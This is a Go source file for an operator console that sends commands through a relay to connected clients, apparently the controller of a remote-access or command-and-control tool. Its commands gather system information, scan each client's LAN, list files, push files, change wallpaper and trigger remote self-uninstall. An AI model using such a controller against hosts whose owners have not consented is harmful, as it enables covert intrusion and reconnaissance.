package console

import (
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"path/filepath"
	"sort"
	"strings"

	"github.com/alfredjeanlab/relay/internal/model"
	"github.com/alfredjeanlab/relay/internal/ui"
)

// errExit is returned by Handle for /exit.
var errExit = errors.New("exit")

// targetAll addresses every registered agent.
const targetAll = "all"

// lastSeenLayout matches the console's historical timestamp format.
const lastSeenLayout = "Mon Jan 02 15:04:05 2006"

// input is one operator line split into at most three fields. rest keeps
// its inner spaces so paths may contain them.
type input struct {
	name, target, rest string
}

func parseInput(line string) input {
	parts := strings.SplitN(strings.TrimSpace(line), " ", 3)
	var in input
	in.name = parts[0]
	if len(parts) > 1 {
		in.target = parts[1]
	}
	if len(parts) > 2 {
		in.rest = parts[2]
	}
	return in
}

type commandSpec struct {
	usage string
	help  string
}

var commandHelp = []commandSpec{
	{"/help", "Show this list of commands."},
	{"/list", "List connected clients."},
	{"/clear", "Clear the console."},
	{"/exit", "Leave the console."},
	{"/informacje <id>", "Request system information from a client."},
	{"/lan-print all", "Scan the LAN of every client."},
	{"/lan-print <id>", "Scan the LAN of one client."},
	{"/list-files <id> <path>", "Return the file tree under a path."},
	{"/transfer-file <id> <local_path>", "Send a local file to a client."},
	{"/zmien-tapete <id|all> <path>", "Change the wallpaper to an image on the client."},
	{"/auto-destrukcja <id|all>", "Tell one or all clients to uninstall themselves."},
	{"/remove <id>", "Forget a client now instead of waiting for the sweep."},
}

// Handle executes one operator line. It returns errExit for /exit; every
// other failure is printed and swallowed.
func (c *Console) Handle(ctx context.Context, line string) error {
	in := parseInput(line)
	if in.name == "" {
		return nil
	}

	switch in.name {
	case "/help":
		c.printHelp()
	case "/list":
		c.listClients(ctx)
	case "/clear":
		fmt.Fprint(c.out, "\x1b[H\x1b[2J")
	case "/exit":
		return errExit
	case "/informacje":
		if in.target == "" || strings.EqualFold(in.target, targetAll) {
			c.usage("/informacje <id>")
			return nil
		}
		c.send(ctx, in.target, model.CommandGetInfo, nil)
	case "/lan-print":
		switch {
		case in.target == "":
			c.usage("/lan-print all|<id>")
		case strings.EqualFold(in.target, targetAll):
			c.sendAll(ctx, model.CommandLANPrintAll, nil)
		default:
			c.send(ctx, in.target, model.CommandLANPrint, nil)
		}
	case "/list-files":
		if in.target == "" || in.rest == "" {
			c.usage("/list-files <id> <path>")
			return nil
		}
		c.send(ctx, in.target, model.CommandListFiles, model.PathArg{Path: in.rest})
	case "/transfer-file":
		if in.target == "" || in.rest == "" {
			c.usage("/transfer-file <id> <local_path>")
			return nil
		}
		c.transferFile(ctx, in.target, in.rest)
	case "/zmien-tapete":
		if in.target == "" || in.rest == "" {
			c.usage("/zmien-tapete <id|all> <path on the client>")
			return nil
		}
		c.sendTo(ctx, in.target, model.CommandChangeWallpaper, model.PathArg{Path: in.rest})
	case "/auto-destrukcja":
		if in.target == "" {
			c.usage("/auto-destrukcja <id|all>")
			return nil
		}
		prompt := fmt.Sprintf("Are you sure you want to uninstall client [%s]? This cannot be undone. Type 'YES' to confirm: ", in.target)
		if strings.EqualFold(in.target, targetAll) {
			prompt = "Are you sure you want to uninstall ALL clients? This cannot be undone. Type 'YES' to confirm: "
		}
		if !c.confirm(ctx, prompt) {
			c.println(ui.Muted("Cancelled."))
			return nil
		}
		c.sendTo(ctx, in.target, model.CommandSelfDestruct, nil)
	case "/remove":
		if in.target == "" {
			c.usage("/remove <id>")
			return nil
		}
		c.removeClient(ctx, in.target)
	default:
		c.println(ui.Error("Unknown command: %s. Type /help for a list of commands.", strings.TrimSpace(line)))
	}
	return nil
}

func (c *Console) usage(u string) {
	c.println(ui.Error("Error: usage: %s", u))
}

func (c *Console) printHelp() {
	c.println(ui.Warn("\n--- Available commands ---"))
	for _, spec := range commandHelp {
		c.println(ui.Accent("%s", spec.usage) + " - " + spec.help)
	}
	c.println(ui.Warn("--------------------------"))
}

// sendTo queues a command for every client when target is "all" and for
// the single named client otherwise. Only commands that accept "all" as a
// target use it.
func (c *Console) sendTo(ctx context.Context, target, typ string, data any) {
	if strings.EqualFold(target, targetAll) {
		c.sendAll(ctx, typ, data)
		return
	}
	c.send(ctx, target, typ, data)
}

// send queues a command for one client. target is taken literally, so a
// client registered as "all" is addressed like any other.
func (c *Console) send(ctx context.Context, target, typ string, data any) {
	cmd, ok := c.buildCommand(typ, data)
	if !ok {
		return
	}

	callCtx, cancel := context.WithTimeout(ctx, c.cfg.CallTimeout)
	defer cancel()

	if err := c.client.SendCommand(callCtx, target, cmd); err != nil {
		c.println(ui.Error("Error: cannot send the command to client [%s]: %v", target, err))
		return
	}
	c.println(ui.Success("[SERVER] Sending command to client [%s]...", target))
}

// sendAll queues a command for every registered client.
func (c *Console) sendAll(ctx context.Context, typ string, data any) {
	cmd, ok := c.buildCommand(typ, data)
	if !ok {
		return
	}

	callCtx, cancel := context.WithTimeout(ctx, c.cfg.CallTimeout)
	defer cancel()

	n, err := c.client.SendCommandToAll(callCtx, cmd)
	if err != nil {
		c.println(ui.Error("Error: cannot send the command to all clients: %v", err))
		return
	}
	c.println(ui.Success("[SERVER] Sending command to all clients (%d)...", n))
}

func (c *Console) buildCommand(typ string, data any) (*model.CommandEnvelope, bool) {
	cmd, err := model.NewCommand(typ, data)
	if err != nil {
		c.println(ui.Error("Error: cannot build %s command: %v", typ, err))
		return nil, false
	}
	return cmd, true
}

// transferFile reads a local file and queues it for target. A read
// failure is reported and nothing is sent.
func (c *Console) transferFile(ctx context.Context, target, path string) {
	data, err := c.cfg.ReadFile(path)
	if err != nil {
		c.println(ui.Error("Error: cannot read file '%s': %v", path, err))
		return
	}
	c.send(ctx, target, model.CommandFileTransfer, model.FileTransfer{
		FileName:    filepath.Base(path),
		FileContent: base64.StdEncoding.EncodeToString(data),
		TargetPath:  "automatic",
	})
}

func (c *Console) removeClient(ctx context.Context, id string) {
	callCtx, cancel := context.WithTimeout(ctx, c.cfg.CallTimeout)
	defer cancel()

	removed, err := c.client.RemoveClient(callCtx, id)
	switch {
	case err != nil:
		c.println(ui.Error("Error: cannot remove client [%s]: %v", id, err))
	case removed:
		c.println(ui.Warn("[SERVER] Client %s removed.", id))
	default:
		c.println(ui.Error("[SERVER] Client %s not found.", id))
	}
}

func (c *Console) listClients(ctx context.Context) {
	callCtx, cancel := context.WithTimeout(ctx, c.cfg.CallTimeout)
	defer cancel()

	clients, err := c.client.ListClients(callCtx)
	if err != nil {
		c.println(ui.Error("[SERVER] Error: cannot reach the relay: %v", err))
		return
	}
	if len(clients) == 0 {
		c.println(ui.Muted("No clients connected."))
		return
	}

	ids := make([]string, 0, len(clients))
	for id := range clients {
		ids = append(ids, id)
	}
	sort.Strings(ids)

	c.println(ui.Warn("\n--- Connected clients ---"))
	for _, id := range ids {
		rec := clients[id]
		c.println(ui.Success("• ID: %s [Version: %s]", id, rec.Version))
		c.println(fmt.Sprintf("  Status: %s", rec.Status))
		c.println(fmt.Sprintf("  Last seen: %s", rec.LastSeen.Local().Format(lastSeenLayout)))
	}
	c.println(ui.Warn("-------------------------"))
}
